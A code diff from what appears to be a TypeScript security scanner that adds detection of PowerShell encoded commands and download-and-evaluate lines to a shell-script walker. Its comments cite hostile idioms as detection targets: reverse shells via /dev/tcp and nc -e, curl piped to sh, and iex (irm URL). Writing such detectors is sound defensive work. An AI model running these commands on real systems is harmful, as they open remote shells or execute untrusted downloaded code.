@@ -25,6 +25,7 @@ import { madeLink } from './made-links.ts';
 import type { FolderNames } from './package-workspaces.ts';
 import { type PathKind, resolvePath } from './paths.ts';
 import type { Policy } from './policy.ts';
+import { downloadRun, evaluatedDownload, lineDownload, powershellCode, unreadableCode } from './powershell.ts';
 import { type PrLookup, type PrState, prFinding } from './pr-gate.ts';
 import { type FileText, type ProjectRun, ProjectScripts } from './project-scripts.ts';
 import { checkRemoteShells } from './remote-shells.ts';
@@ -273,6 +274,14 @@ function walkScript(src: string, w: Walk, depth: number): void {
     // `tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT`: the handler runs later in this shell, with the line's variables
     const prelude = scripts.length && cmd.words[programIndex(cmd.words)]?.value === 'trap' ? variableSetters(script.commands) : '';
     for (const s of scripts) walkScript(prelude + s, w, depth + 1);
+    // `pwsh -Command '…'`, `powershell -EncodedCommand …`: the code PowerShell runs, and a download it evaluates (powershell.ts)
+    const ps = invocation && powershellCode(invocation);
+    if (ps && 'unreadable' in ps) w.findings.push(unreadableCode(invocation!.program, ps.unreadable));
+    else if (ps) {
+      if (!scripts.length) walkScript(ps.code, w, depth + 1);
+      const url = evaluatedDownload(ps.code);
+      if (url) fed.push([downloadRun(invocation!, url)]);
+    }
     if (!invocation && scripts.length) lineStages.push({ inv: lineStage(cmd), pipeline: cmd.pipeline, index: cmd.index });
     // what runs to produce the words (`echo "$(curl x)" | sh`) runs at this place in the pipeline
     const inner = cmd.words.some((x) => x.subs.length) ? cmd.words.flatMap((x) => x.subs).flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? [])) : [];
@@ -340,6 +349,9 @@ function walkScript(src: string, w: Walk, depth: number): void {
     // `curl x > >(sh)`: the command's output is a shell's script
     if (inv && shellSubstitutions(cmd, inv, reading.invOf)) fed.push([inv]);
   }
+  // `iex (irm URL)`: a line PowerShell reads, evaluating a download (powershell.ts)
+  const evaluated = lineDownload(src, script.commands);
+  if (evaluated) fed.push([downloadRun(lineStage(evaluated.cmd), evaluated.url)]);
   const p = checkPipelines(piped, fed, w.policy) ?? checkExfiltration(lineStages.length ? [...piped, ...lineStages] : piped);
   if (p) w.findings.push(p);
   // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
